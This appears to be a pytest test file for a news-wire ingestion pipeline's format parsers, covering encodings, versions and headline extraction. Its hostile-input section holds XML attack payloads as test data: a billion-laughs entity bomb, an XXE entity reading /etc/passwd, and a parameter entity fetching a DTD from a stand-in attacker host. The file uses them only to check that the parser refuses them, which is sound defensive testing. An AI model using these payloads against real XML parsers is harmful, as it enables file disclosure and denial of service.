"""Wire-format parsers: every real sample in ../shared/eval/wire-samples, and hostile inputs."""

from __future__ import annotations

import base64
import json
import os
import pathlib
import re

import pytest

from pipeline.formats import FormatError, detect_format, iter_jsonl, parse_file, parse_payload
from pipeline.models import ArticleFormat

REPO = pathlib.Path(__file__).resolve().parents[2]
EVAL_DIR = pathlib.Path(os.environ.get("NEWSWIRE_EVAL_DIR", REPO.parent / "shared" / "eval"))
SAMPLES = EVAL_DIR / "wire-samples"
MAX_BYTES = 2_000_000

FOLDER_FORMATS = {
    "anpa-1312": {ArticleFormat.anpa},
    "iptc-7901": {ArticleFormat.iptc_7901},
    "atom": {ArticleFormat.atom},
    "rss": {ArticleFormat.rss},
    "nitf": {ArticleFormat.nitf},
    "newsml-g2": {ArticleFormat.newsml_g2},
    "newsml-1.2": {ArticleFormat.newsml_1},
    "ninjs-1.x": {ArticleFormat.ninjs},
    "ninjs-2.x": {ArticleFormat.ninjs},
    "ninjs-3.x": {ArticleFormat.ninjs},
}
# Samples without article text (per the samples' README), and the one format not supported: they must be refused.
NO_TEXT = {
    "newsml-g2/LISTING_1_A_NewsML-G2_News_Item.xml": "article body is empty",  # metadata-only, body is comments
    "newsml-g2/LISTING_29_Hop_History.xml": "article body is empty",  # metadata-only
    "newsml-g2/LISTING_24_News_Message_conveying_a_complete_News_Package.xml": "article body is empty",  # '.....' items
    "newsml-g2/tag_reuters.com_2016_newsml_L1N14N0FF_version_1542761538": "article body is empty",  # kill, wordcount 0
    "ninjs-2.x/ntb_text.json": "ninjs item has no body",  # metadata + description only
    "agency-other/ritzau_news.xml": "unsupported XML document: root element <RBNews>",
}
# Item counts stated in the samples' README (feeds: items that carry any text).
ARTICLE_COUNTS = {
    "newsml-g2/ap.xml": 3, "newsml-g2/TT_newsmlg2_sample.xml": 1, "newsml-g2/scoop.xml": 1,
    "rss/guardian.rss": 55, "rss/rss2sample.xml": 4, "rss/iconv.xml": 10,
    "atom/tpm.atom": 20, "atom/heise.atom": 15, "atom/wenn.xml": 2,
}
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")


def sample_names() -> list[str]:
    if not SAMPLES.is_dir():
        return []
    return sorted(f"{path.parent.name}/{path.name}" for path in SAMPLES.glob("*/*") if path.is_file())


needs_samples = pytest.mark.skipif(not SAMPLES.is_dir(), reason=f"wire samples not found at {SAMPLES} (set NEWSWIRE_EVAL_DIR)")


def parse_sample(name: str):
    return parse_file(SAMPLES / name, max_bytes=MAX_BYTES)


@needs_samples
@pytest.mark.eval
def test_the_samples_are_there():
    assert len(sample_names()) == 79


@needs_samples
@pytest.mark.eval
@pytest.mark.parametrize("name", sample_names() or ["(no samples)"])
def test_sample_gives_articles_or_a_clear_refusal(name):
    if name in NO_TEXT:
        with pytest.raises(FormatError, match=re.escape(NO_TEXT[name])):
            parse_sample(name)
        return
    articles = parse_sample(name)
    assert articles, name
    folder = name.split("/")[0]
    for article in articles:
        assert article.format in FOLDER_FORMATS[folder]
        assert article.body and article.body.strip(), f"{name}: empty body"
        assert not _CONTROL.search(article.body), f"{name}: control characters left in the body"
        assert "<p>" not in article.body and "</p>" not in article.body, f"{name}: markup left in the body"
        assert article.source == name.split("/")[-1]
        assert article.id and article.version >= 1
        if article.headline is not None:
            assert article.headline.strip() and "\n" not in article.headline and len(article.headline) < 300
    if name in ARTICLE_COUNTS:
        assert len(articles) == ARTICLE_COUNTS[name]


@needs_samples
@pytest.mark.eval
def test_most_samples_have_headlines():
    parsed = [parse_sample(name) for name in sample_names() if name not in NO_TEXT]
    with_headline = sum(1 for articles in parsed if articles[0].headline)
    assert with_headline / len(parsed) >= 0.9


@needs_samples
@pytest.mark.eval
@pytest.mark.parametrize(("name", "expected_text", "encoding"), [
    ("newsml-1.2/afp20.xml", "définitivement condamnée", "utf-8"),  # declares iso-8859-1, bytes are UTF-8
    ("nitf/mapping_test.xml", "41-årig", "utf-8"),  # same trap
    ("rss/uolNoticias.rss", "simulações", "cp1252"),  # no declaration, Latin-1 bytes
    ("nitf/nitf-ntb.xml", "Påstand", "iso-8859-1"),  # declared Latin-1, ASCII bytes with character references
    ("nitf/pa5.xml", "£66", "iso-8859-1"),  # real Latin-1 byte 0xA3
    ("newsml-1.2/ats_newsml_1_2_belga.xml", "taureau", "iso-8859-15"),
    ("rss/iconv.xml", "Бузулуке", "windows-1251"),
    ("iptc-7901/ats.txt", "«gilets jaunes»", "cp1252"),
    ("iptc-7901/IPTC7901_odd_charset.txt", "Müller", "cp1252"),
    ("newsml-g2/scoop.xml", "Dick Smith", "utf-8"),  # UTF-8 BOM
])
def test_encodings_and_traps_decode_to_the_right_text(name, expected_text, encoding):
    articles = parse_sample(name)
    text = " ".join(f"{article.headline} {article.body}" for article in articles)
    assert expected_text in text
    assert "Ã" not in text  # no UTF-8-read-as-Latin-1 mojibake introduced by the parser
    assert articles[0].encoding == encoding


@needs_samples
@pytest.mark.eval
def test_versions_and_ids_from_the_formats():
    ap = parse_sample("newsml-g2/ap.xml")
    assert sorted(article.version for article in ap) == [1, 2, 2]  # two are 1st Ld-Writethru updates
    assert len({article.id for article in ap}) == 3
    assert parse_sample("newsml-g2/tag_reuters.com_2014_newsml_KBN0FL0NN_version_5")[0].version == 5
    assert parse_sample("nitf/nitf-ntb.xml")[0].version == 48  # du-key version
    assert parse_sample("anpa-1312/anpa-2.tst")[0].version == 2  # 1st Ld-Writethru
    assert parse_sample("anpa-1312/ap_anpa-4.tst")[0].version == 4  # 3rd Ld-Writethru
    assert parse_sample("iptc-7901/dpa.txt")[0].version == 3  # 2ND LEAD
    # The same dpa story in ninjs 2.1 and 3.0: same id, version and body.
    two, three = parse_sample("ninjs-2.x/dpa_text.json")[0], parse_sample("ninjs-3.x/dpa_text.json")[0]
    assert (two.id, two.version, two.body) == (three.id, three.version, three.body)
    # Feed entries: the version is the update time, so a later update wins.
    heise = parse_sample("atom/heise.atom")
    assert all(article.version > 1_400_000_000 and article.published_at for article in heise)


@needs_samples
@pytest.mark.eval
def test_wire_headings_are_separated_from_the_body():
    anpa = parse_sample("anpa-1312/anpa-1.tst")[0]
    assert anpa.headline == "For Argentine chemo patients, mirrors can hurt"
    assert anpa.body.startswith("BUENOS AIRES, Argentina (AP) _ For cancer patients")
    assert "AP Photo" not in anpa.body and "By PAUL BYRNE" not in anpa.body
    dpa = parse_sample("iptc-7901/dpa_four_line.txt")[0]
    assert dpa.headline == "Switzerland joins list of countries resisting UN migration pact"
    assert dpa.body.startswith("Geneva (dpa) - Switzerland is joining")
    assert "REFILE" not in dpa.body
    notebook = parse_sample("iptc-7901/dpa_two_line.txt")[0]
    assert "Notebook" not in notebook.body and "DOD news" not in notebook.body
    kyodo = parse_sample("anpa-1312/kyodo.txt")[0]
    # Hard-wrapped lines are joined back into paragraphs.
    assert "claimed their seventh Emperor's Cup on Sunday" in kyodo.body.split("\n")[0]


@needs_samples
@pytest.mark.eval
def test_detection_by_content_not_extension():
    reuters = (SAMPLES / "newsml-g2/tag_reuters.com_2014_newsml_KBN0FL0NN_version_5").read_bytes()  # no extension
    assert detect_format(reuters) is ArticleFormat.newsml_g2
    kyodo = (SAMPLES / "anpa-1312/kyodo.txt").read_bytes()
    assert detect_format(kyodo, "kyodo.txt") is ArticleFormat.anpa
    stripped = (SAMPLES / "iptc-7901/dpa.txt").read_bytes()  # control characters stripped
    assert detect_format(stripped, "dpa.txt") is ArticleFormat.iptc_7901


# Hostile and broken inputs: each must be a FormatError with a message that says what is wrong.

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<nitf><body><body.content><p>&lol3;</p></body.content></body></nitf>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<nitf><body><body.content><p>&secret;</p></body.content></body></nitf>"""
XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.test/evil.dtd"> %remote; <!ENTITY leak "x">]>
<rss><channel><item><title>T</title><description>&leak;</description></item></channel></rss>"""


@pytest.mark.parametrize(("payload", "message"), [
    (BILLION_LAUGHS, "XML entity declarations are not allowed"),
    (XXE, "XML entity declarations are not allowed (entity 'secret')"),
    # The external parameter entity is never read, and expat then ignores later declarations: no expansion.
    (XXE_PARAMETER, "XML is not well-formed: undefined entity &leak;"),
    (b"<nitf><body><body.content><p>cut off", "XML is not well-formed: no element found: line 1"),
    (b"<rss><channel><item><title>x</title></ite></channel></rss>", "XML is not well-formed: mismatched tag"),
    (b'{"headline": "Only a headline"}', "JSON object has no article body: expected one of 'body', 'text', 'content'"),
    (b'{"uri": "urn:x", "headlines": [{"value": "H"}]}', "ninjs item has no body"),
    (b'{"body": "ok",\n "headline": }', "invalid JSON at line 2, column 14"),
    (b'[1, 2]', "list item 0: JSON int is not an article object"),
    (b'{"body": "  "}', "article body is empty"),
    (b"", "payload is empty"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "payload is binary, not text: NUL byte at offset 8"),
    (b"\xff\xfe\x00garbage\x00\x01\x02", "payload starts with a UTF-16 byte-order mark but is not UTF-16 text"),
    (b"  \r\n ", "payload is empty"),
    (b"<html><body><p>Not a wire format</p></body></html>", "unsupported XML document: root element <html>"),
    (b"<nitf><body><body.content>" + b"<p>" * 50_000 + b"deep" + b"</p>" * 50_000 + b"</body.content></body></nitf>",
     "document is nested too deeply to read"),
    (b"[" * 100_000 + b"]" * 100_000, "document is nested too deeply to read"),
    (b'<newsItem guid="' + b"x" * 600 + b'"><contentSet><inlineData>Text</inlineData></contentSet></newsItem>',
     "article does not fit the contract: id: String should have at most 512 characters"),
])
def test_hostile_and_broken_payloads_are_refused_with_the_reason(payload, message):
    with pytest.raises(FormatError) as raised:
        parse_payload(payload, "test", max_bytes=MAX_BYTES)
    assert message in str(raised.value)


def test_nothing_is_fetched_or_expanded(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    payload = f'<?xml version="1.0"?><!DOCTYPE nitf [<!ENTITY s SYSTEM "file://{secret}">]><nitf><body><p>&s;</p></body></nitf>'
    with pytest.raises(FormatError) as raised:
        parse_payload(payload.encode(), "test", max_bytes=MAX_BYTES)
    assert "TOP-SECRET" not in str(raised.value)


def test_a_declared_external_dtd_is_not_fetched_and_does_not_block_parsing():
    # The standard NewsML 1.x header: an external DTD plus an external parameter entity for NITF.
    payload = b"""<?xml version="1.0"?>
<!DOCTYPE NewsML PUBLIC "-//x//NewsML" "http://unreachable.test/NewsML.dtd" [<!ENTITY % nitf SYSTEM "http://unreachable.test/nitf.dtd"> %nitf; ]>
<NewsML><NewsItem><NewsComponent><ContentItem><DataContent><p>Text.</p></DataContent></ContentItem></NewsComponent></NewsItem></NewsML>"""
    [article] = parse_payload(payload, "test", max_bytes=MAX_BYTES)
    assert article.body == "Text."


def test_huge_payload_is_refused_before_parsing(tmp_path):
    payload = b"<nitf>" + b"x" * 25_000_000
    with pytest.raises(FormatError, match="payload of 25,000,006 bytes exceeds the 2,000,000-byte limit"):
        parse_payload(payload, "test", max_bytes=MAX_BYTES)
    big = tmp_path / "big.xml"
    big.write_bytes(payload)
    with pytest.raises(FormatError, match="exceeds the 2,000,000-byte limit"):
        parse_file(big, max_bytes=MAX_BYTES)


def test_invalid_utf8_text_keeps_its_bytes_for_the_repair_stage():
    raw = b"Mueller scores twice\nGerd M\xfcller scored twice \x93again\x94."
    [article] = parse_payload(raw, "wire.txt", filename="wire.txt", max_bytes=MAX_BYTES)
    assert article.headline == "Mueller scores twice"
    assert article.body is None and article.encoding is None
    assert article.body_bytes == b"Gerd M\xfcller scored twice \x93again\x94."
    # The bytes survive the JSON envelope on the raw topic.
    envelope = json.loads(article.model_dump_json())
    assert base64.urlsafe_b64decode(envelope["body_bytes"]) == article.body_bytes


def test_invalid_utf8_json_is_refused():
    with pytest.raises(FormatError, match="JSON is not valid UTF-8"):
        parse_payload(b'{"body": "M\xfcller"}', "test", max_bytes=MAX_BYTES)


def test_utf16_text_with_a_byte_order_mark_is_decoded():
    [article] = parse_payload("Sturm an der Küste\nDer Sturm traf die Küste.".encode("utf-16"), "a.txt", max_bytes=MAX_BYTES)
    assert (article.headline, article.body, article.encoding) == ("Sturm an der Küste", "Der Sturm traf die Küste.", "utf-16")


def test_text_headline_only_when_it_looks_like_one():
    [titled] = parse_payload(b"\xef\xbb\xbfStorm hits coast\r\n\r\nThe storm hit the coast.\r\nMore.", "a.txt", max_bytes=MAX_BYTES)
    assert (titled.headline, titled.body) == ("Storm hits coast", "The storm hit the coast.\nMore.")
    [untitled] = parse_payload(b"The storm hit the coast on Monday.\nMore.", "b.txt", max_bytes=MAX_BYTES)
    assert untitled.headline is None and untitled.body.startswith("The storm")


def test_seed_article_reads_as_text_without_a_headline():
    seed = REPO / "seeds" / "000_3055c024dfb4192d.txt"
    [article] = parse_file(seed, max_bytes=MAX_BYTES)
    assert article.format is ArticleFormat.text and article.headline is None
    assert article.body == seed.read_text(encoding="utf-8")
    assert article.id == parse_file(seed, max_bytes=MAX_BYTES)[0].id  # stable


def test_jsonl_reports_the_bad_line():
    payload = b'{"id": "1", "body": "one"}\n{"id": "2", "body": "two"}\n{"id": "3", "headline": "no body"}\n'
    with pytest.raises(FormatError, match=r"^line 3: JSON object has no article body"):
        parse_payload(payload, "feed.jsonl", filename="feed.jsonl", max_bytes=MAX_BYTES)
    results = list(iter_jsonl(payload.decode(), "feed.jsonl"))
    assert [number for number, result in results if isinstance(result, FormatError)] == [3]
    assert [result.id for _, result in results[:2]] == ["json:1", "json:2"]


def test_generic_json_fields():
    payload = json.dumps({"id": "a1", "source": "acme", "title": "T", "content": "<p>One</p><p>Two</p>", "version": 3,
                          "url": "https://acme.test/a1", "language": "en", "published_at": "2024-05-01T10:00:00Z"}).encode()
    [article] = parse_payload(payload, "api", max_bytes=MAX_BYTES)
    assert (article.id, article.version, article.body, article.url, article.language) == (
        "acme:a1", 3, "One\nTwo", "https://acme.test/a1", "en")
    assert article.published_at.year == 2024
